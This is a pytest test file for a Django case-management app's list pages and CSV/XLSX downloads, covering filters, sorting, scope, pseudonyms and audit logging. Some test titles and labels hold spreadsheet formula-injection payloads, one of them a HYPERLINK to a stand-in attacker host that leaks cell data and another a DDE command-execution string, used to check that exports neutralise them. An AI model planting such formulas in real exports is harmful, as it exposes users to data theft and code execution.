"""Lists people can work with (issue 17.7): filters and sorts in the query string, bad
values answered 400 with a message, and CSV/XLSX downloads that hold exactly what the page
shows that user (scope and identities), formula-safe, each recorded once in the audit trail."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from laborlens.accounts.models import User
from laborlens.audit.events import record_event
from laborlens.audit.models import AuditEvent
from laborlens.audit.tags import EventTag
from laborlens.cases import services as case_services
from laborlens.cases.models import Case
from laborlens.cases.views import case as case_views
from laborlens.core.listing import safe_cell
from laborlens.screening import services as screening_services
from laborlens.tips import services as tip_services
from laborlens.tips.models import Source
from tests.api.victims_world import VICTIM_NAME as RECORD_NAME
from tests.cases.conftest import VICTIM_NAME, VICTIM_PHONE, build_case_world
from tests.conftest import make_user
from tests.core.test_web_matrix import MATRIX, USERS, _clients, _outcome, mw  # noqa: F401  (mw: fixture)

pytestmark = pytest.mark.django_db
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def cw(world, settings, tmp_path):  # noqa: ANN001
    settings.MEDIA_ROOT = tmp_path / "uploads"
    return build_case_world(world)


def rows_of(response: Any) -> list[list[str]]:
    """A download's rows (header first), from CSV or XLSX alike."""
    if response["Content-Type"].startswith("text/csv"):
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert response["Content-Type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [["" if cell.value is None else str(cell.value) for cell in row] for row in sheet.iter_rows()]


def exports(tag: EventTag) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(tag=tag.value))


def case_numbers(body: str) -> list[str]:
    return re.findall(r"<strong>([^<]+)</strong>", body)


# --- cases -------------------------------------------------------------------------------


def test_case_download_holds_the_page_rows_with_identities_as_the_page_shows_them(cw, login):  # noqa: ANN001
    case = cw.case
    case.title = f"{VICTIM_NAME} orchard crew, call {VICTIM_PHONE}"
    case.save(update_fields=["title"])
    theirs = case_services.create_case(by=cw.rival, data={"title": "Eastport orchard"})  # agency B
    for user, sees_name in ((cw.w.investigator, True), (cw.deputy, False)):
        client = login(user)
        body = client.get(reverse("cases:list")).content.decode()
        for fmt in ("csv", "xlsx"):
            response = client.get(reverse("cases:list"), {"format": fmt})
            assert response.status_code == 200 and response["Cache-Control"] == "no-store"
            assert "attachment" in response["Content-Disposition"]
            header, *rows = rows_of(response)
            assert header == ["Case number", "Title", "Stage", "Lead agency", "Opened"]
            assert [row[0] for row in rows] == case_numbers(body) == [case.number]
            title = rows[0][1]
            assert title in body  # the very words of the page
            assert (VICTIM_NAME in title) is sees_name and (VICTIM_NAME in body) is sees_name
            if not sees_name:
                assert cw.victim.pseudonym in title
            assert theirs.number not in str(rows)
    rival = login(cw.rival).get(reverse("cases:list"), {"format": "csv"})
    assert [row[0] for row in rows_of(rival)[1:]] == [theirs.number]


def test_case_download_is_audited_once_with_its_filters(cw, login):  # noqa: ANN001
    client = login(cw.w.investigator)
    before = len(exports(EventTag.CASE_LISTED))
    response = client.get(reverse("cases:list"), {"format": "xlsx", "stage": "discovery", "sort": "number"})
    assert response.status_code == 200
    [event] = exports(EventTag.CASE_LIST_EXPORTED)
    assert event.actor_label == "investigator"
    assert event.detail["format"] == "xlsx" and event.detail["rows"] == 1
    assert event.detail["stage"] == "discovery" and event.detail["sort"] == "number"
    assert len(exports(EventTag.CASE_LISTED)) == before  # a download is not also a page view


def _open_cases(world: Any, titles: list[str]) -> list[Case]:
    cases = []
    for title in titles:
        cases.append(case_services.create_case(by=world.investigator, data={"title": title}))
    return cases


def test_case_filters_and_sorts(world, login):  # noqa: ANN001
    cases = _open_cases(world, ["Alpha", "Bravo", "Charlie", "Delta"])
    cases[1].stage = "investigation"
    cases[1].save(update_fields=["stage"])
    cases[2].opened_on = timezone.localdate().replace(year=2020)
    cases[2].save(update_fields=["opened_on"])
    client = login(world.investigator)
    url = reverse("cases:list")
    assert case_numbers(client.get(url, {"stage": "investigation"}).content.decode()) == [cases[1].number]
    assert case_numbers(client.get(url, {"opened_until": "2020-12-31"}).content.decode()) == [cases[2].number]
    assert case_numbers(client.get(url, {"number": cases[3].number}).content.decode()) == [cases[3].number]
    numbers = sorted(case.number for case in cases)
    assert case_numbers(client.get(url, {"sort": "number"}).content.decode()) == numbers
    assert case_numbers(client.get(url, {"sort": "-number"}).content.decode()) == numbers[::-1]
    oldest = case_numbers(client.get(url, {"sort": "opened"}).content.decode())
    assert oldest[0] == cases[2].number
    # Only the cases I am on: the supervisor leads none of them.
    assert case_numbers(login(world.supervisor).get(url, {"mine": "on"}).content.decode()) == []
    assert len(case_numbers(login(world.supervisor).get(url).content.decode())) == 4


@pytest.mark.parametrize("sort", ["number", "-number", "opened", "-opened", "-updated"])
def test_every_sort_pages_by_keyset_each_case_once_and_keeps_the_filters(world, login, monkeypatch, sort):  # noqa: ANN001
    monkeypatch.setattr(case_views, "CASE_PAGE_SIZE", 2)
    cases = _open_cases(world, [f"Crew {n}" for n in range(7)])
    for n, case in enumerate(cases):  # ties on the date: the primary key orders them
        case.opened_on = timezone.localdate().replace(day=1 + n // 3)
        case.save(update_fields=["opened_on"])
    client = login(world.investigator)
    url = reverse("cases:list")
    body = client.get(url, {"sort": sort, "stage": "discovery"}).content.decode()
    pages = [case_numbers(body)]
    while (found := re.search(r'href="\?([^"]*)">Next</a>', body)):
        query = found.group(1).replace("&amp;", "&")
        assert f"sort={sort}" in query and "stage=discovery" in query
        body = client.get(f"{url}?{query}").content.decode()
        pages.append(case_numbers(body))
    seen = [number for page in pages for number in page]
    download = [row[0] for row in rows_of(client.get(url, {"sort": sort, "stage": "discovery", "format": "csv"}))[1:]]
    assert sorted(seen) == sorted(case.number for case in cases) and len(set(seen)) == 7
    assert seen == download  # the download keeps the page's order


@pytest.mark.parametrize("query", [{"stage": "nonsense"}, {"sort": "title"}, {"format": "pdf"},
                                   {"opened_from": "2026-13-45"},
                                   {"opened_from": "2026-05-02", "opened_until": "2026-05-01"}])
def test_bad_case_filters_answer_400_with_a_message_and_no_download(world, login, query):  # noqa: ANN001
    _open_cases(world, ["Alpha"])
    client = login(world.investigator)
    response = client.get(reverse("cases:list"), query)
    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()
    response = client.get(reverse("cases:list"), {**query, "format": query.get("format", "csv")})
    assert response.status_code == 400 and response["Content-Type"].startswith("text/html")
    assert not exports(EventTag.CASE_LIST_EXPORTED)


def test_a_formula_in_a_title_is_neutralised_in_both_formats(world, login):  # noqa: ANN001
    formula = '=HYPERLINK("http://evil.invalid/?"&A1,"Open")'
    _open_cases(world, [formula, "+1+1", "-2+3", "@SUM(A1)", "Plain"])
    client = login(world.investigator)
    for fmt in ("csv", "xlsx"):
        titles = {row[1] for row in rows_of(client.get(reverse("cases:list"), {"format": fmt}))[1:]}
        assert titles == {"'" + formula, "'+1+1", "'-2+3", "'@SUM(A1)", "Plain"}
    sheet = load_workbook(io.BytesIO(client.get(reverse("cases:list"), {"format": "xlsx"}).content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_safe_cell_keeps_numbers_and_dates():
    assert safe_cell(-3) == -3 and safe_cell(None) == "" and safe_cell("\tcmd") == "'\tcmd"
    assert safe_cell(timezone.localdate().replace(year=2026, month=3, day=2)) == "2026-03-02"


def test_download_headings_in_spanish(cw, login):  # noqa: ANN001
    client = login(cw.w.investigator)
    response = client.get(reverse("cases:list"), {"format": "csv"}, HTTP_ACCEPT_LANGUAGE="es")
    assert rows_of(response)[0] == ["Número de caso", "Título", "Etapa", "Agencia principal", "Abierto"]
    page = client.get(reverse("cases:list"), HTTP_ACCEPT_LANGUAGE="es").content.decode()
    assert "Ordenar por" in page and "Descargar esta lista" in page


# --- screenings --------------------------------------------------------------------------


def _screening(by: User, label: str, done: bool = False) -> Any:
    screening = screening_services.create(user=by, label=label, age_group="adult", setting="other",
                                          question_language="en")
    if done:
        screening.completed_at = timezone.now()
        screening.save(update_fields=["completed_at"])
    return screening


def test_screening_filters_sorts_and_download(world, login):  # noqa: ANN001
    _screening(world.officer, "Worker 2, farm on Route 9", done=True)
    _screening(world.officer, "=cmd|' /C calc'!A0")
    _screening(world.investigator, "Apple picker")
    theirs = _screening(world.outsider, "Eastport worker")
    client = login(world.officer)
    url = reverse("screening:list")
    body = client.get(url, {"sort": "label"}).content.decode()
    labels = re.findall(r'result/">([^<]+)</a>', body)
    assert labels == sorted(labels) and len(labels) == 2 and theirs.label not in body
    assert re.findall(r'result/">([^<]+)</a>', client.get(url, {"state": "done"}).content.decode()) == [
        "Worker 2, farm on Route 9"]
    header, *rows = rows_of(client.get(url, {"sort": "label", "format": "xlsx"}))
    assert header == ["Label", "State", "Reading", "When", "By"]
    # Same rows as the page, in its order; the formula comes out as text.
    assert [row[0].lstrip("'") for row in rows] == [label.replace("&#x27;", "'") for label in labels]
    assert "'=cmd|' /C calc'!A0" in [row[0] for row in rows]
    assert "Eastport worker" not in str(rows)
    [event] = exports(EventTag.SCREENING_LIST_EXPORTED)
    assert event.detail["rows"] == 2 and event.detail["format"] == "xlsx"
    assert client.get(url, {"state": "sideways"}).status_code == 400
    assert client.get(url, {"reading": "no_such_reading"}).status_code == 400


def test_screening_label_goes_through_the_case_identity_rules(cw, login):  # noqa: ANN001
    screening = _screening(cw.deputy, f"Met {VICTIM_NAME} at the barn")
    screening.case = cw.case
    screening.save(update_fields=["case"])
    client = login(cw.deputy)
    body = client.get(reverse("screening:list")).content.decode()
    rows = rows_of(client.get(reverse("screening:list"), {"format": "csv"}))[1:]
    assert VICTIM_NAME not in body and VICTIM_NAME not in str(rows)
    assert f"Met {cw.victim.pseudonym} at the barn" in body and rows[0][0] == f"Met {cw.victim.pseudonym} at the barn"


# --- tips --------------------------------------------------------------------------------


def _tip(agency: Any, narrative: str, **data: Any) -> Any:
    base = {"narrative": narrative, "business_name": "Sunrise Cleaning LLC", "city": "Riverton",
            "address": "415 Mill Street", "contact": "tipster@example.org", "observations": []}
    tip, _ = tip_services.submit(source=Source.PUBLIC, agency=agency, data={**base, **data})
    return tip


NARRATIVE = ("Rosalind Featherstone keeps our passports at Sunrise Cleaning LLC on 415 Mill Street. "
             "We owe 8000 dollars. Call her at (202) 555-0171 or write to boss@sunrise.example.")


def test_tip_queue_shows_a_short_redacted_summary_and_the_priority_scale(world, login):  # noqa: ANN001
    tip = _tip(world.agency_a, NARRATIVE)
    client = login(world.investigator)
    body = client.get(reverse("tips:triage")).content.decode()
    [summary] = re.findall(r'data-testid="tip-summary">([^<]*)</p>', body)
    assert "passports" in summary and len(summary) <= 161
    for secret in ("Rosalind", "Featherstone", "Sunrise", "Mill Street", "555-0171", "boss@sunrise", "tipster@"):
        assert secret not in summary
    scale = body[body.index('data-testid="priority-scale"'):body.index("</details>")]
    assert "1 is the most urgent" in scale
    for level in range(1, 7):
        assert f"Priority {level}" in scale
    assert "Danger to life" in scale and "No urgent sign found" in scale
    spanish = client.get(reverse("tips:triage"), HTTP_ACCEPT_LANGUAGE="es").content.decode()
    assert "Qué significan los números de prioridad" in spanish and "Peligro para la vida" in spanish
    header, *rows = rows_of(client.get(reverse("tips:triage"), {"format": "csv"}))
    assert rows[0][0] == tip.code and header[-1] == "Summary (identities removed)"
    assert rows[0][-1] == summary.replace("&#x27;", "'")
    [event] = exports(EventTag.TIP_LIST_EXPORTED)
    assert event.detail["rows"] == 1


def test_tip_filters_sorts_scope_and_bad_values(world, login):  # noqa: ANN001
    calm = _tip(world.agency_a, "The diner pays late. Nobody took my documents.", business_name="Diner")
    danger = _tip(world.agency_a, "He has a gun and said he will kill them.", observations=["in_danger_now"])
    theirs = _tip(world.agency_b, "They took our passports when we arrived.")
    client = login(world.investigator)
    url = reverse("tips:triage")
    urgent = client.get(url).content.decode()
    assert urgent.index(danger.code) < urgent.index(calm.code) and theirs.code not in urgent
    newest = client.get(url, {"sort": "-received"}).content.decode()
    assert newest.index(danger.code) < newest.index(calm.code)
    oldest = client.get(url, {"sort": "received"}).content.decode()
    assert oldest.index(calm.code) < oldest.index(danger.code)
    only = client.get(url, {"priority": "1"}).content.decode()
    assert danger.code in only and calm.code not in only
    codes = [row[0] for row in rows_of(client.get(url, {"format": "xlsx", "sort": "received"}))[1:]]
    assert codes == [calm.code, danger.code]
    for bad in ({"priority": "99"}, {"priority": "x"}, {"status": "lost"}, {"sort": "narrative"},
                {"since": "yesterday"}):
        response = client.get(url, bad)
        assert response.status_code == 400 and 'role="alert"' in response.content.decode(), bad


def test_tip_download_follows_the_page_permission(world, login):  # noqa: ANN001
    _tip(world.agency_a, NARRATIVE)
    assert login(world.officer).get(reverse("tips:triage"), {"format": "csv"}).status_code == 403
    theirs = login(make_user("eastport_inv", world.agency_b, "investigator"))
    assert rows_of(theirs.get(reverse("tips:triage"), {"format": "csv"}))[1:] == []


# --- referrals ---------------------------------------------------------------------------


def test_referral_download_has_pseudonyms_only_and_the_page_rows(mw, login):  # noqa: ANN001,F811
    assert mw.referral.partner.agency_id == mw.w.advocate.agency_id  # received by the advocate's organisation
    client = login(mw.w.advocate)
    url = reverse("victims:queue")
    body = client.get(url).content.decode()
    header, *rows = rows_of(client.get(url, {"format": "csv"}))
    assert header[:3] == ["Direction", "Pseudonym", "Need"]
    assert rows and all(row[1] in body for row in rows)
    assert RECORD_NAME not in str(rows) and "Other Client" not in str(rows)
    assert {row[0] for row in rows} <= {"Received", "Sent"}
    [event] = exports(EventTag.VICTIM_QUEUE_EXPORTED)
    assert event.detail["rows"] == len(rows)
    counselling = rows_of(client.get(url, {"format": "csv", "need": "counselling", "direction": "incoming"}))[1:]
    assert counselling and all(row[2] == "Counselling and support groups" and row[0] == "Received"
                               for row in counselling)
    assert rows_of(client.get(url, {"format": "csv", "need": "legal"}))[1:] == []
    assert client.get(url, {"need": "spaceship"}).status_code == 400
    assert client.get(url, {"sort": "pseudonym"}).status_code == 400


# --- audit trail -------------------------------------------------------------------------


def test_audit_download_filters_sorts_and_is_itself_audited(world, login):  # noqa: ANN001
    odd = make_user("-2+3", world.agency_a, "line_officer")
    record_event(EventTag.CASE_VIEWED, actor=odd, detail={})
    client = login(world.auditor)
    url = reverse("audit:events")
    header, *rows = rows_of(client.get(url, {"format": "csv", "what": EventTag.CASE_VIEWED.value}))
    assert header == ["#", "When", "Who", "What", "Object", "Outcome", "IP"]
    assert [row[2] for row in rows] == ["'-2+3"] and rows[0][3] == EventTag.CASE_VIEWED.value
    oldest = rows_of(client.get(url, {"format": "xlsx", "sort": "seq"}))[1:]
    assert [int(row[0]) for row in oldest] == sorted(int(row[0]) for row in oldest)
    body = client.get(url, {"sort": "seq"}).content.decode()
    seqs = [int(n) for n in re.findall(r"<tr><td>(\d+)</td>", body)]
    assert seqs == sorted(seqs) and seqs[: len(oldest)] == [int(row[0]) for row in oldest][: len(seqs)]
    assert len(exports(EventTag.AUDIT_LOG_EXPORTED)) == 2
    assert client.get(url, {"sort": "actor"}).status_code == 400
    assert client.get(url, {"format": "exe"}).status_code == 400
    assert login(world.supervisor).get(url, {"format": "csv"}).status_code == 403


# --- the same permissions as the page, for every user ------------------------------------


@pytest.mark.parametrize("name", ["cases:list", "screening:list", "tips:triage", "victims:queue", "audit:events"])
def test_downloads_answer_every_user_as_their_page_does(mw, name):  # noqa: ANN001,F811
    _target, expected = MATRIX[name]
    results = {}
    for user, client in _clients(mw).items():
        response = client.get(reverse(name), {"format": "csv"})
        results[user] = _outcome(response)
        if response.status_code == 200:
            assert response["Content-Type"].startswith("text/csv"), user
    assert tuple(results[user] for user in USERS) == expected


def test_a_download_stops_at_the_limit_and_says_how_many_rows_it_holds(world, login, monkeypatch):  # noqa: ANN001
    from laborlens.core import listing

    monkeypatch.setattr(listing, "EXPORT_LIMIT", 2)
    monkeypatch.setattr(case_views, "CASE_PAGE_SIZE", 1)  # rendered page by page, as the pages show them
    cases = _open_cases(world, ["Alpha", "Bravo", "Charlie"])
    client = login(world.investigator)
    rows = rows_of(client.get(reverse("cases:list"), {"format": "csv", "sort": "number"}))[1:]
    assert [row[0] for row in rows] == sorted(case.number for case in cases)[:2]
    assert [row[1] for row in rows] == ["Alpha", "Bravo"]
    [event] = exports(EventTag.CASE_LIST_EXPORTED)
    assert event.detail["rows"] == 2
    assert "up to 2," in client.get(reverse("cases:list")).content.decode()
